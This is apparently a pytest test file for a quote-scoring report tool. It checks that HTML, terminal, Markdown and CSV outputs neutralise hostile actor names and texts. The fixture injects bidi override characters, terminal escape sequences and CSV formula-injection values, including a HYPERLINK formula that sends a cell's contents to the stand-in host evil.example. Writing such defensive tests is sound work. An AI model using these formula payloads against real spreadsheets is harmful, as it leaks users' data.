"""Hostile text in reports (issue 14): direction overrides in the HTML page, the terminal table
and Markdown; spreadsheet formulas in CSV cells; terminal escape sequences.

The input is the scored-quote fixture of test_report.py (tests/data/report_fixture.jsonl)
with hostile names and texts injected into it: a RIGHT-TO-LEFT OVERRIDE (U+202E) and a
LEFT-TO-RIGHT ISOLATE (U+2066) in the Syrian ministry's name, ``=HYPERLINK(...)`` and
``@SUM(1+1)`` as actor names, quotes starting with ``=``, and an escape sequence.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from clirun import run
from stance.report.safe import DIRECTION_CONTROLS, csv_cell, plain_text

FIXTURE = Path(__file__).parent / "data" / "report_fixture.jsonl"
MOFA = "وزارة الخارجية السورية"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'
BIDI = re.compile(f"[{DIRECTION_CONTROLS}]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "scored.jsonl"
    with open(FIXTURE, encoding="utf-8") as fh, open(out, "w", encoding="utf-8") as w:
        for line in fh:
            r = json.loads(line)
            if r["actor_id"] == "syr-mofa":
                r["actor"] = "\u202e" + MOFA + "\u2066"  # never closed
            elif r["actor_id"] == "irq-jaafari":
                r["actor"] = LINK
                r["text"] = "=1+2 " + r["text"]
            elif r["actor_id"] == "un":
                r["actor"] = "@SUM(1+1)"
                r["article_id"] = "-2+3"
            elif r["actor_id"] == "irq-gov":
                r["actor"] = "الحكومة\x1b[2J العراقية"
            w.write(json.dumps(r, ensure_ascii=False) + "\n")
    return out


def test_html_isolates_names_and_drops_overrides(hostile, tmp_path, capsys):
    target = tmp_path / "report.html"
    code, _, err = run(capsys, "report", hostile, "-o", target)
    assert code == 0, err
    page = target.read_text(encoding="utf-8")
    assert not BIDI.search(page)
    # the name is isolated, and its count (the next cell / the n= after it) is outside it
    assert f"<td title=\"syr-mofa\"><bdi>{MOFA}</bdi>" in page
    assert f'<h3>1. <bdi>{MOFA}</bdi> <small><bdi dir="ltr">n=5</bdi></small></h3>' in page
    assert "<bdi>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;details&quot;)</bdi>" \
        in page


def test_terminal_table_and_markdown_have_no_controls(hostile, tmp_path, capsys):
    code, table, err = run(capsys, "report", hostile, "--arabic", "raw")
    assert code == 0, err
    assert not BIDI.search(table) and "\x1b" not in table
    row = next(line for line in table.splitlines() if MOFA in line)
    assert re.search(MOFA + r"\s+SYR\s+5\s", row)  # name, country, count in order
    assert "الحكومة [2J العراقية" in table

    code, shaped, err = run(capsys, "report", hostile, "--arabic", "shaped")
    assert code == 0 and not BIDI.search(shaped) and "\x1b" not in shaped

    target = tmp_path / "report.md"
    code, _, err = run(capsys, "report", hostile, "-o", target)
    assert code == 0, err
    md = target.read_text(encoding="utf-8")
    assert not BIDI.search(md) and "\x1b" not in md
    assert f"| 1 | {MOFA} | SYR | 5 |" in md and f"### 1. {MOFA} (5 quotes)" in md


def test_csv_cells_never_start_a_formula(hostile, tmp_path, capsys):
    target = tmp_path / "report.csv"
    code, _, err = run(capsys, "report", hostile, "-o", target)
    assert code == 0, err
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(target.read_text(encoding="utf-8")))}
    assert rows["irq-jaafari"]["name"] == "'" + LINK
    assert rows["un"]["name"] == "'@SUM(1+1)"
    assert rows["irq-jaafari"]["solidarity_example_text"].startswith("'=1+2 ")
    assert rows["un"]["mediation_example_article_id"] == "'-2+3"
    for r in rows.values():  # the numbers are numbers still
        assert re.fullmatch(r"\d+", r["n_quotes"]) and re.fullmatch(r"\d\.\d{4}", r["none_share"])
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows["syr-mofa"]["terrorism_share"] == "0.4000"


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\u202e=1", "'\u202e=1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("-0.25", "-0.25"), ("+3", "+3"), ("1e-3", "1e-3"), ("", ""), ("وزارة", "وزارة"),
    ("a=b", "a=b"), (5, 5), (-2.5, -2.5), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_plain_text():
    assert plain_text("\u202eabc\u2069 \u200fd\x1b[31me\nf") == "abc d [31me f"


def test_extract_by_speaker_listing_has_no_controls(tmp_path, capsys):
    art = tmp_path / "a1.txt"
    art.write_text("دمشق - وقال وزير الخارجية العراقي إن \u202eبلاده ترفض\x1b[2J أي تدخل في "
                   "شؤونها الداخلية.\n", encoding="utf-8")
    code, out, err = run(capsys, "extract", art, "--by-speaker")
    assert code == 0, err
    assert "بلاده ترفض [2J أي تدخل" in out
    assert not BIDI.search(out) and "\x1b" not in out
